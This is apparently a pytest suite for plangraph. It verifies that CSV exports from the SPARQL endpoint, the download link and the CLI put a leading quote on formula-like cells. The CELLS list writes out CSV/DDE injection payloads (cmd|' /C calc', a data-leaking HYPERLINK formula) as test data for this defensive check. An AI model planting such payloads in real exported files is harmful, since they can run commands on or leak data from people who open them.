"""No CSV plangraph writes makes a spreadsheet run a formula: a cell from the data that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return gets a leading `'` unless it is a plain number (`-5` stays `-5`). Checked on
/sparql (`format=csv` and `Accept: text/csv`) on the embedded and the memory store over real HTTP, on the query
page's download link, on stored data (a formula in a published graph) and on `plangraph query --format csv`;
TSV cells are Turtle terms and never start like a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import run_plangraph, serve_process
from plangraph.csv_cells import FORMULA_STARTS, inert_cell

# (value in the data, the cell a spreadsheet gets)
CELLS = [
    ("-5", "-5"),
    ("+3.2", "+3.2"),
    ("-1.5e3", "-1.5e3"),
    ("42", "42"),
    ("=1+1", "'=1+1"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("+cmd|' /C notepad'!A0", "'+cmd|' /C notepad'!A0"),
    ('@SUM(1+1)*cmd|" /C calc"!A0', '\'@SUM(1+1)*cmd|" /C calc"!A0'),
    ('=HYPERLINK("https://example.org/?"&A1,"Klick")', '\'=HYPERLINK("https://example.org/?"&A1,"Klick")'),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-INF", "'-INF"),
    ("- Aufzählung", "'- Aufzählung"),
    ("a=1", "a=1"),
    (" =1", " =1"),
    ("Wohnen", "Wohnen"),
    ("", ""),
]
RDFS_COMMENT = "http://www.w3.org/2000/01/rdf-schema#comment"
BASE = "https://w3id.org/plangraph/herne/"
STORED = f"{BASE}wohnen-und-stadtentwicklung/massnahme/A1-1"


def _select(values: list[str]) -> str:
    rows = " ".join(f"({n} {_literal(v)})" for n, v in enumerate(values))
    return f"SELECT ?n ?value WHERE {{ VALUES (?n ?value) {{ {rows} }} }} ORDER BY ?n"


def _literal(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


def _cells(body: str) -> list[str]:
    return _cells_of(body, 1)


def _cells_of(body: str, column: int) -> list[str]:
    """One column of a CSV answer, without the header."""
    return [row[column] for row in list(csv.reader(io.StringIO(body, newline="")))[1:]]


@pytest.mark.parametrize(("value", "cell"), CELLS)
def test_inert_cell(value: str, cell: str) -> None:
    assert inert_cell(value) == cell


@settings(max_examples=300, deadline=None, database=None)
@given(text=st.text(max_size=30))
def test_an_inert_cell_never_starts_like_a_formula_unless_it_is_a_number(text: str) -> None:
    shown = inert_cell(text)
    assert not shown.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", shown)
    assert shown in (text, "'" + text)  # nothing lost: at most a quote in front


@pytest.fixture(scope="module", params=["embedded", "memory"])
def server(request: pytest.FixtureRequest, dataset_file: Path,
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A real `plangraph serve` on the embedded or the memory store, publishing a dataset with a formula in it."""
    folder = tmp_path_factory.mktemp(f"csv-{request.param}")
    dataset = folder / "herne-formel.trig"
    formula = f'<{STORED}> <{RDFS_COMMENT}> "=HYPERLINK(\\"https://example.org\\",\\"Klick\\")"'
    dataset.write_text(dataset_file.read_text("utf-8") + f"\n<{BASE}graph/formel> {{ {formula} }}\n", "utf-8")
    store = str(folder / "store") if request.param == "embedded" else "memory"
    with serve_process(dataset, folder, {"PLANGRAPH_STORE": store}) as (url, _):
        yield url


@pytest.mark.parametrize("how", ["format", "accept"])
def test_sparql_csv_cells_are_inert(server: str, how: str) -> None:
    query = _select([v for v, _ in CELLS])
    if how == "format":
        response = requests.get(server + "sparql", params={"query": query, "format": "csv"}, timeout=30)
    else:
        response = requests.get(server + "sparql", params={"query": query}, headers={"Accept": "text/csv"},
                                timeout=30)
    assert response.status_code == 200, response.text[:500]
    assert response.headers["Content-Type"].startswith("text/csv")
    assert _cells(response.content.decode("utf-8")) == [c for _, c in CELLS]


def test_the_query_pages_csv_download_is_inert(server: str) -> None:
    """The query page links its answer as CSV; that download goes through the same writer."""
    query = _select(["=1+1", "-5"])
    response = requests.get(server + "sparql", params={"query": query, "format": "csv", "download": "abfrage"},
                            timeout=30)
    assert response.status_code == 200
    assert "attachment" in response.headers.get("Content-Disposition", "")
    assert _cells(response.content.decode("utf-8")) == ["'=1+1", "-5"]


def test_tsv_cells_never_start_like_a_formula(server: str) -> None:
    """TSV writes Turtle terms: a literal starts with a quote, an IRI with `<`, a blank node with `_:`."""
    response = requests.get(server + "sparql", params={"query": _select([v for v, _ in CELLS]), "format": "tsv"},
                            timeout=30)
    assert response.status_code == 200
    lines = response.content.decode("utf-8").split("\n")
    cells = [cell for line in lines[1:] if line for cell in line.split("\t")]
    assert len(cells) == 2 * len(CELLS)
    assert all(cell.startswith(('"', "<", "_:")) for cell in cells), cells
    assert '"=1+1"' in cells  # the value itself, unchanged: TSV is read by programs, as Turtle terms


def test_a_stored_formula_comes_out_inert(server: str) -> None:
    query = f"SELECT ?c WHERE {{ <{STORED}> <{RDFS_COMMENT}> ?c }}"
    response = requests.get(server + "sparql", params={"query": query, "format": "csv"}, timeout=30)
    assert response.status_code == 200
    assert _cells_of(response.content.decode("utf-8"), 0) == ['\'=HYPERLINK("https://example.org","Klick")']


@pytest.mark.parametrize("store", ["memory", "embedded"])
def test_plangraph_query_csv_is_inert(dataset_file: Path, tmp_path: Path, store: str) -> None:
    where = "memory" if store == "memory" else str(tmp_path / "store")
    code, out, err = run_plangraph("query", _select([v for v, _ in CELLS]), "--format", "csv", "--dataset",
                                   dataset_file, "--store", where)
    assert code == 0, err
    assert _cells(out) == [c for _, c in CELLS]
